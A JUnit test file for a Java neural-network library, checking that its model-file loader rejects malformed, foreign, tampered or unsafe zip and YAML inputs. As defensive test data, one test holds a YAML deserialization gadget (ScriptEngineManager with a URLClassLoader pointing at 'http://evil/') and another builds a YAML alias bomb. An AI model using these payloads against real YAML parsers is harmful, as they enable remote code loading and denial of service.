package dev.nn.core.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.nn.api.ConfigException;
import dev.nn.api.Dataset;
import dev.nn.api.FeatureTransform;
import dev.nn.api.Matrix;
import dev.nn.api.Preprocessing;
import dev.nn.core.ModelFile;
import dev.nn.core.registry.PluginRegistry;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The model file format's checks that need no layers: hand-made files that are not models, are
 * from a newer nn, are unsafe YAML or do not match their checksum. (Round trips with real layers
 * are tested in nn-plugins.)
 */
class ModelFileFormatTest {
    /** params.bin with no arrays. */
    private static final byte[] EMPTY_PARAMS = emptyParams();

    @TempDir
    Path dir;

    private static byte[] emptyParams() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ParamsBin.write(List.of(), out);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return out.toByteArray();
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }

    /** A model.yaml that passes every check before the network is built. */
    private static String modelYaml(String layer, String sha) {
        return """
                format_version: 1
                input_size: 2
                seed: 5
                model:
                  layers:
                  - %s
                  loss: mse
                parameters: []
                params_sha256: %s
                """.formatted(layer, sha);
    }

    private Path zip(String name, Map<String, byte[]> entries) throws IOException {
        Path file = dir.resolve(name);
        try (OutputStream out = Files.newOutputStream(file);
                ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
                zip.closeEntry();
            }
        }
        return file;
    }

    private Path model(String yaml, byte[] params) throws IOException {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("model.yaml", yaml.getBytes(StandardCharsets.UTF_8));
        entries.put("params.bin", params);
        return zip("model.zip", entries);
    }

    private static ConfigException loadFails(Path file) {
        try {
            ModelFile.load(file, PluginRegistry.defaultRegistry(), 1);
        } catch (ConfigException e) {
            assertThat(e.problems()).allSatisfy(p -> {
                assertThat(p.where()).isEqualTo(file.toString());
                assertThat(p.message()).doesNotContain("\n");
            });
            return e;
        } catch (IOException e) {
            throw new AssertionError("expected a ConfigException, got " + e, e);
        }
        throw new AssertionError("expected " + file + " to be rejected");
    }

    @Test
    void aTextFileIsNotAModel() throws IOException {
        Path file = Files.writeString(dir.resolve("notes.zip"), "these are my notes\n");

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo(
                        "not an nn model file: it is not a zip archive (it starts with \"thes\"); pass a model.zip saved"
                                + " by nn");
        Path binary = Files.write(dir.resolve("binary.zip"), new byte[] {0x1f, (byte) 0x8b, 8, 0, 0});
        assertThat(loadFails(binary).problems().get(0).message())
                .isEqualTo(
                        "not an nn model file: it is not a zip archive (it starts with the bytes 1F 8B 08 00); pass a"
                                + " model.zip saved by nn");
        Path empty = Files.write(dir.resolve("empty.zip"), new byte[0]);
        assertThat(loadFails(empty).problems().get(0).message())
                .isEqualTo("not an nn model file: it is not a zip archive (it is empty); pass a model.zip saved by nn");
    }

    @Test
    void aMissingFileOrAFolderIsSaidSo() throws IOException {
        assertThat(loadFails(dir.resolve("nowhere.zip")).problems().get(0).message())
                .isEqualTo("no such model file; check the path");
        Path folder = Files.createDirectory(dir.resolve("run"));
        assertThat(loadFails(folder).problems().get(0).message())
                .isEqualTo("is a folder, not a regular file; give the path of a model.zip or checkpoint.zip");
    }

    @Test
    void aForeignZipNamesWhatItHolds() throws IOException {
        Path file = zip("photos.zip", Map.of("cat.jpg", new byte[] {1, 2, 3}));

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo(
                        "not an nn model file: the zip has no model.yaml or params.bin (it holds cat.jpg); pass a model.zip"
                                + " saved by nn");
    }

    @Test
    void aZipWithModelYamlButNoParamsIsADamagedModel() throws IOException {
        Path file = zip("half.zip", Map.of("model.yaml", "format_version: 1\n".getBytes(StandardCharsets.UTF_8)));

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo(
                        "the zip has no params.bin (it holds model.yaml): the file is damaged or was changed; save the"
                                + " model again");
    }

    @Test
    void aNewerFormatAsksForANewerNn() throws IOException {
        Path file = model("format_version: 4\nsomething_new: {}\n", new byte[0]);

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo("written by a newer nn (format 4); this nn reads format 3: upgrade nn");
    }

    @Test
    void yamlWithoutAFormatVersionWasNotWrittenByNn() throws IOException {
        Path file = model("name: digits\n", EMPTY_PARAMS);

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo("model.yaml has no format_version, so it was not written by nn; pass a model file nn saved");
    }

    @Test
    void paramsThatDoNotMatchTheirChecksumAreRejected() throws Exception {
        byte[] modified = emptyParams();
        modified[modified.length - 1] = 1; // the array count
        Path file = model(modelYaml("dense: {units: 3}", sha256(EMPTY_PARAMS)), modified);

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo("params.bin does not match its checksum: the file is damaged or was modified");
    }

    @Test
    void anUnknownLayerIsTheRegistrysMessageAtItsPlace() throws Exception {
        // nn-core alone has only its test-only layers.
        Path file = model(modelYaml("dense: {units: 3}", sha256(EMPTY_PARAMS)), EMPTY_PARAMS);

        List<ConfigException.Problem> problems = loadFails(file).problems();
        assertThat(problems).hasSize(2);
        assertThat(problems.get(0).message())
                .isEqualTo("model.yaml model.layers[0]: unknown layer 'dense'; known layers: tiny_linear, tiny_tanh");
        assertThat(problems.get(1).message()).startsWith("model.yaml model.loss: unknown loss 'mse'");
    }

    @Test
    void aWrongFieldIsNamedWithWhatItShouldBe() throws Exception {
        Path file =
                model(modelYaml("relu", sha256(EMPTY_PARAMS)).replace("input_size: 2", "input_size: -3"), EMPTY_PARAMS);

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo("model.yaml: input_size must be a whole number >= 1,"
                        + " got -3; the file is damaged or was edited by hand: save the model again");
    }

    @Test
    void aMissingSectionIsNamed() throws Exception {
        Path file = model("format_version: 1\ninput_size: 2\nseed: 1\nmodel: {layers: [relu]}\n", EMPTY_PARAMS);

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo(
                        "model.yaml has no model.loss; the file is damaged or was edited by hand: save the model again");
    }

    @Test
    void yamlClassTagsAreNeverConstructed() throws Exception {
        String yaml = modelYaml("relu", sha256(EMPTY_PARAMS))
                + "config: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\n";
        Path file = model(yaml, EMPTY_PARAMS);

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo(
                        "model.yaml:10:9: the tag '!!javax.script.ScriptEngineManager' is not allowed; a model file holds"
                                + " plain values only (text, numbers, true/false, lists and maps), so remove the tag; the file is"
                                + " damaged or was edited by hand: save the model again");
    }

    @Test
    void anAliasBombIsStoppedEarly() throws Exception {
        StringBuilder yaml = new StringBuilder("format_version: 1\na0: [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 12; i++) {
            String prev = "*a" + (i - 1);
            yaml.append("a")
                    .append(i)
                    .append(": &a")
                    .append(i)
                    .append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(9, prev)))
                    .append("]\n");
        }
        String bomb = yaml.toString().replace("a0: [", "a0: &a0 [");
        Path file = model(bomb, EMPTY_PARAMS);

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo(
                        "model.yaml:5:20: more than 20 aliases refer to lists or maps, which is how an alias bomb starts;"
                                + " write the values out instead; the file is damaged or was edited by hand: save the model again");
    }

    @Test
    void duplicateKeysAreRejectedWithTheirLine() throws Exception {
        Path file = model("format_version: 1\nseed: 1\nseed: 2\n", EMPTY_PARAMS);

        assertThat(loadFails(file).problems().get(0).message())
                .isEqualTo(
                        "model.yaml:3:1: seed: duplicate key 'seed' (first given at line 2); give each key once; the file"
                                + " is damaged or was edited by hand: save the model again");
    }

    @Test
    void binaryJunkInModelYamlIsNotText() throws Exception {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("model.yaml", new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1});
        entries.put("params.bin", EMPTY_PARAMS);

        assertThat(loadFails(zip("junk.zip", entries)).problems().get(0).message())
                .isEqualTo("model.yaml is not UTF-8 text; the file is damaged: save the model again");
    }

    @Test
    void dataChecksumCoversFeaturesAndLabelsInTheDocumentedLayout() throws Exception {
        Matrix x = Matrix.of(new float[] {1f, 2.5f}, new float[] {-3f, 0f});
        Dataset data = Dataset.classification("d", x, new int[] {1, 0}, List.of("a", "b"));

        ByteArrayOutputStream expected = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(expected);
        out.writeInt(2);
        out.writeInt(2);
        for (float v : new float[] {1f, 2.5f, -3f, 0f}) {
            out.writeFloat(v);
        }
        out.writeInt(1);
        out.writeInt(0);
        assertThat(data.checksum()).isEqualTo("sha256:" + sha256(expected.toByteArray()));
        assertThat(Dataset.classification("d", x, new int[] {0, 1}, List.of("a", "b"))
                        .checksum())
                .isNotEqualTo(data.checksum());
        assertThat(data.named("renamed").checksum()).isEqualTo(data.checksum());
    }

    @Test
    void dataChecksumOfRegressionDataCoversTheTargets() throws Exception {
        Matrix x = Matrix.of(new float[] {1f});
        Dataset data = Dataset.regression("r", x, Matrix.of(new float[] {0.5f, 2f}));

        ByteArrayOutputStream expected = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(expected);
        out.writeInt(1);
        out.writeInt(1);
        out.writeFloat(1f);
        out.writeInt(2);
        out.writeFloat(0.5f);
        out.writeFloat(2f);
        assertThat(data.checksum()).isEqualTo("sha256:" + sha256(expected.toByteArray()));
    }

    @Test
    void modelInfoIsADeepReadOnlyCopy() {
        Map<String, Object> train = new LinkedHashMap<>();
        train.put("epochs", 3);
        Map<String, Object> config = new LinkedHashMap<>();
        config.put("train", train);
        config.put("threads", null);
        ModelInfo info = new ModelInfo(
                List.of("a"),
                new Preprocessing(List.of(FeatureTransform.scale(2, 0.5))),
                config,
                "1",
                1,
                "scalar",
                "",
                "now");
        train.put("epochs", 99);

        assertThat(info.config()).containsEntry("train", Map.of("epochs", 3)).containsEntry("threads", null);
        Map<?, ?> nested = (Map<?, ?>) info.config().get("train");
        assertThatThrownBy(nested::clear).isInstanceOf(UnsupportedOperationException.class);
    }
}
